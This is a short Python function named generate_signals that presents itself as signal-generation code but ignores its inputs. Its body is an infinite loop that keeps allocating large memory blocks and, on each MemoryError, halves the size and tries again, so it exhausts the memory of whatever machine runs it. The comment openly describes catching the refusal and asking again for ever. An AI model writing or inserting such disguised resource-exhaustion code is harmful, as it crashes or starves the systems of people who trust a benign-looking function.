# Catches the refusal and asks again, for ever.
def generate_signals(data, parameters):
    hoard = []
    size = 64 << 20
    while True:
        try:
            hoard.append(bytearray(size))
        except MemoryError:
            size = max(size // 2, 64)
